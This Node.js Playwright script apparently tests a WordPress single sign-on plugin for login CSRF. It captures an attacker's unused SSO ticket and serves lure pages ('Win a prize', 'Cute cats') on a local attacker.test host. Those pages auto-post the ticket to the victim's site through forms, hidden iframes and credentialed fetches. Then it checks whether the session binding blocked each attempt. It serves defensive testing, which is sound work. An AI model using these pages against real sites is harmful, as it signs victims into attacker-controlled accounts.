// Login CSRF against single sign-on, with two browsers (two profiles) and an attacker's site.
//   node csrf.mjs '{"a", "b": URL of the peer attacked, "peers": [URL…], "ca",
//                   "victim": {"user", "password"}, "attacker": {"user", "password", "block3p"}}'
// 1. The victim logs in on A (single sign-on signs her in on the peers).   pause "victim"
// 2. The attacker logs in on A with his own account in his own browser and runs the real flow,
//    but aborts the POST of his ticket to B (page.route) and keeps the ticket: unused, and
//    bound to his browser. (With his third-party cookies blocked, a ticket posted from the page
//    can never be used by anyone, so he lets those through and keeps the chain's.)
// 3. The victim visits the attacker's site (http://attacker.test on loopback, served here),
//    which posts the ticket to B: as a top-level form, inside a hidden iframe, as a credentialed
//    cross-site request (as A's own page does), and after first giving the victim a binding
//    cookie of B's own (B's binding step in a frame, or by a request). After each, the script
//    records whether her auth cookies for B changed.                     pause after each
//    Then it checks who she is on B.
// 4. Control: the attacker's own browser visits the same top-level page: the same ticket signs
//    him in on B, so it was live all along and only the binding refused it.  pause "control"
// Prints one JSON result line.
import { createServer } from 'node:http';
import { authCookies, cfg, done, launch, loggedInAs, pause, ssoSettled, submitLogin } from './lib.mjs';

const bHost = new URL(cfg.b).hostname;
const accept = `${cfg.b}/?usersync_sso_accept=1`;
const esc = (s) => String(s).replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
let captured = null;

// The attacker's site: pages that auto-post the captured ticket to B.
const fields = (mode) => [['ticket', captured.ticket], ['mode', mode], ...(captured.return ? [['return', captured.return]] : [])]
  .map(([k, v]) => `<input type="hidden" name="${k}" value="${esc(v)}">`).join('');
const pages = {
  '/top': () => `<!doctype html><title>Win a prize</title><form method="post" action="${esc(accept)}">${fields('chain')}</form>`
    + '<script>document.forms[0].submit()</script>',
  '/frame': () => `<!doctype html><title>Cute cats</title><iframe name="x" hidden></iframe>`
    + `<form method="post" target="x" action="${esc(accept)}">${fields('frame')}</form><script>document.forms[0].submit()</script>`,
  // First a frame to B's binding step (B sets the victim a binding cookie of her own; its hash
  // goes to A's origin only), then the post (submitted by the script below once it is set).
  '/bind-then-frame': () => `<!doctype html><title>More cats</title><iframe name="x" hidden></iframe>`
    + `<iframe hidden src="${esc(`${cfg.b}/?usersync_sso_bind=1&from=a.test&mode=frame`)}"></iframe>`
    + `<form method="post" target="x" action="${esc(accept)}">${fields('frame')}</form>`,
  // The ticket as A's page posts it: a credentialed request (its answer unreadable here: CORS
  // allows A's origin only, but the cookies would be stored all the same).
  '/fetch': () => `<!doctype html><title>Dogs</title><script>${post()}</script>`,
  // B's binding step by a request first (the victim gets a binding cookie of her own), then the post (go()).
  '/bind-then-fetch': () => `<!doctype html><title>More dogs</title><script>window.go = () => ${post()};`
    + `fetch(${JSON.stringify(`${cfg.b}/?usersync_sso_bind=1&from=a.test&mode=fetch`)}, { credentials: 'include', mode: 'no-cors' });</script>`,
};
function post() {
  const body = { ticket: captured.ticket, mode: 'fetch', from: 'a.test' };
  return `fetch(${JSON.stringify(accept)}, { method: 'POST', credentials: 'include', mode: 'no-cors', body: new URLSearchParams(${JSON.stringify(body)}) })`;
}
const served = [];
const server = createServer((req, res) => {
  const path = req.url.split('?')[0];
  served.push(path);
  if (!pages[path] || !captured) { res.writeHead(404).end(); return; }
  res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(pages[path]());
});
await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
const evil = `http://attacker.test:${server.address().port}`;

const victim = await launch({ block3p: false });
const attacker = await launch({ block3p: !!cfg.attacker.block3p });
const result = { attacks: {} };
try {
  result.recordersWork = (await victim.proveRecorders()) && (await attacker.proveRecorders());
  // 1. The victim's own single sign-on.
  const target = `${cfg.a}/wp-admin/profile.php?from=login`;
  await submitLogin(victim.page, cfg.a, cfg.victim.user, cfg.victim.password, target);
  await ssoSettled(victim.page, target);
  result.victimOnB = await loggedInAs(victim.page, cfg.b);
  const before = await authCookies(victim.context, bHost);
  await pause('victim');

  // 2. The attacker's ticket for B, taken from his own browser's flow.
  const posts = [];
  await attacker.context.route((u) => u.href.startsWith(accept), async (route) => {
    const request = route.request();
    const form = new URLSearchParams(request.postData() ?? '');
    posts.push(form.get('mode'));
    if (request.method() !== 'POST' || captured || (cfg.attacker.block3p && ['fetch', 'frame'].includes(form.get('mode')))) {
      await route.continue();
      return;
    }
    captured = { ticket: form.get('ticket'), mode: form.get('mode'), return: form.get('return') };
    await route.abort();
  });
  await submitLogin(attacker.page, cfg.a, cfg.attacker.user, cfg.attacker.password, target);
  for (let i = 0; i < 300 && !captured; i++) await attacker.page.waitForTimeout(50);
  // Stop the rest of his flow: the ticket stays unused. (An aborted top-level POST is still
  // turning into an error page, which may interrupt the first try.)
  for (let i = 0; i < 5; i++) {
    try {
      await attacker.page.goto('about:blank');
      break;
    } catch (e) {
      await attacker.page.waitForTimeout(200);
    }
  }
  await attacker.context.unrouteAll({ behavior: 'ignoreErrors' });
  result.captured = captured ? { mode: captured.mode, return: captured.return, length: captured.ticket.length } : null;
  result.attackerPosts = posts;
  if (!captured) throw new Error(`no ticket for B was posted in the attacker's browser (posts: ${posts})`);
  await pause('captured');

  // 3. The victim on the attacker's pages.
  for (const path of ['/top', '/frame', '/bind-then-frame', '/fetch', '/bind-then-fetch']) {
    const toB = victim.page.waitForResponse((r) => r.url().startsWith(accept), { timeout: 15000 }).catch(() => null);
    let bindCookie = null;
    if (path.startsWith('/bind-then-')) {
      const bound = victim.page.waitForResponse((r) => r.url().includes('usersync_sso_bind=1'), { timeout: 15000 }).catch(() => null);
      await victim.page.goto(`${evil}${path}`);
      await bound;
      bindCookie = (await victim.context.cookies()).some((c) => c.domain === bHost && c.name === 'usersync_bind');
      await victim.page.evaluate(() => (window.go ? window.go().catch(() => {}) : document.forms[0].submit()));
    } else {
      await victim.page.goto(`${evil}${path}`);
    }
    const response = await toB;
    await victim.page.waitForLoadState('load').catch(() => {});
    await victim.page.waitForTimeout(300);
    const attack = { posted: !!response, status: response && response.status(), endedOn: victim.page.url(), bindCookie };
    attack.cookiesUnchanged = JSON.stringify(await authCookies(victim.context, bHost)) === JSON.stringify(before);
    result.attacks[path] = attack;
    await pause('attack', { path });
  }
  result.victimAfterAttacks = await loggedInAs(victim.page, cfg.b);

  // 4. Control: the same ticket from the attacker's own browser.
  const toB = attacker.page.waitForResponse((r) => r.url().startsWith(accept), { timeout: 15000 }).catch(() => null);
  await attacker.page.goto(`${evil}/top`);
  result.control = { posted: !!(await toB) };
  await attacker.page.waitForLoadState('load').catch(() => {});
  result.control.onB = await loggedInAs(attacker.page, cfg.b);
  result.victimStillOnB = await loggedInAs(victim.page, cfg.b);
  await pause('control');
} finally {
  result.served = served;
  result.victimDialogs = victim.rec.dialogs;
  result.urlsWithTickets = [...victim.rec.urlsWithTickets, ...attacker.rec.urlsWithTickets];
  await victim.close();
  await attacker.close();
  server.close();
}
done(result);
